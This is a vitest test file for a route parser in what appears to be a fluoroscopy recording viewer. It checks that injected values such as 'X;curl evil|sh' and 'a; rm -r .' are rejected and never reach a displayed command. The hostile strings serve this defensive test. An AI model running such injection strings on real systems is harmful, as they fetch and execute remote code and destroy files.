import { describe, expect, it } from 'vitest';
import { hrefOf, parseRoute } from '@/base/route';

describe('an address of the page', () => {
  it('leads to the fluoroscopy of a case', () => {
    const recording = { id: '20261127T091502Z-0a1b2c3d', stream: 'fluoroscopy' };
    expect(parseRoute(hrefOf({ view: 'breathing', recording }))).toEqual({ view: 'breathing', recording });
  });

  it('brings no words of its own into the command that the page shows', () => {
    for (const [of, stream] of [
      ['X;curl evil|sh', 'fluoroscopy'],
      ['20261127T091502Z-0a1b2c3d', 'a; rm -r .'],
      ['20261127T091502Z-0a1b2c3d\n', 'fluoroscopy'],
      ['20261127T091502Z-0a1b2c3d', 'Fluoroscopy'],
      ['20261127T091502Z-0a1b2c3d', 'f'.repeat(33)],
    ] as const) {
      expect(parseRoute(`#/breathing?${new URLSearchParams({ case: of, stream })}`)).toEqual({ view: 'breathing' });
    }
  });
});
